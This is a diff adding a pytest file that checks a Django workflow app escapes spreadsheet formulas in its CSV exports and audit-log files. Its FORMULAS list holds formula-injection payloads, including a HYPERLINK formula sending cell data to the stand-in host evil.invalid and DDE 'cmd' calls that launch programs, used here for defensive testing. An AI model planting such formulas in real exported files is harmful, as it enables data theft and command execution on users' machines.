@@ -1,0 +1,88 @@
+"""Formulas in files for spreadsheets: whatever an engine or a person calls something, no cell of any file begins to calculate."""
+
+import csv
+import io
+import re
+
+import pytest
+from django.test import Client
+
+from tests.cast import Cast
+from tests.resources import samples
+from tests.shelf import Shelf, identity
+from workflows_ui.kit.export_file import harmless
+from workflows_ui.kit.resource import Resource
+from workflows_ui.models import Flavour, Workspace
+from workflows_ui.resources import RESOURCES, table_files
+from workflows_ui.services import audit
+from workflows_ui.services.audit import Actor
+
+pytestmark = pytest.mark.once
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1+1)*cmd|" /C calc"!A0',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＠SUM(1)",
+    "harmless;=1+1",
+    "two\n=1+1",
+    'quoted",=1+1',
+]
+#: How spreadsheets part cells: at commas, and at semicolons or tabs where a comma stands in numbers.
+_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
+
+
+def running(content: bytes) -> list[str]:
+    """The cells that would calculate, as a spreadsheet with commas reads the file, and as one with semicolons does."""
+    text = content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    found = [cell for cell in cells if cell.startswith(_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
+    return found + re.findall(r"(?<=[;\t\r\n])[=+@＝＋＠].*", text)
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
+def test_no_text_stays_a_formula(formula: str) -> None:
+    file = io.StringIO()
+    csv.writer(file).writerow([harmless(formula)])
+    assert running(file.getvalue().encode()) == []
+    made = table_files.content("csv", {"name": "x", "fields": [formula], "rows": [{formula: formula}]})
+    assert running(made.encode()) == []
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
+def test_no_name_becomes_a_formula_in_any_file(cast: Cast, owner: Client, shelf: Shelf, formula: str) -> None:
+    here: Resource
+    for here in RESOURCES:
+        sample = samples.of(here)
+        imbrace = sample.flavour == Flavour.IMBRACE
+        flavour, address = (Flavour.IMBRACE, shelf.url) if imbrace else (Flavour.ACTIVEPIECES, f"{shelf.url}/api")
+        Workspace.objects.filter(pk=cast.workspace.pk).update(flavour=flavour, address=address)
+        sample.fill(shelf, formula)
+        answer = owner.get(f"{here.url('sales')}export/csv/")
+        if answer.status_code == 404:
+            answer = owner.get(here.url("sales").replace("/w/sales/", "/w/sales/export/") + "csv/")
+        assert running(answer.content) == [], here.name
+    audit.record(
+        Actor(cast.owner, address=None),
+        "flows.rename",
+        workspace=cast.workspace,
+        object_type="flows",
+        object_id=identity(1),
+        object_name=formula,
+        reason=formula,
+        before=formula,
+    )
+    answer = owner.get("/w/sales/audit/file/csv/")
+    assert running(b"".join(answer)) == []  # type: ignore[arg-type]
+
+
+def test_the_check_finds_what_it_looks_for() -> None:
+    for text in ("=1", "a;=1", '"two\n=1"', "＝1", "-1+1"):
+        assert running(text.encode()), text
+    assert running(b"-1,2,-3.5,'=1\n") == []
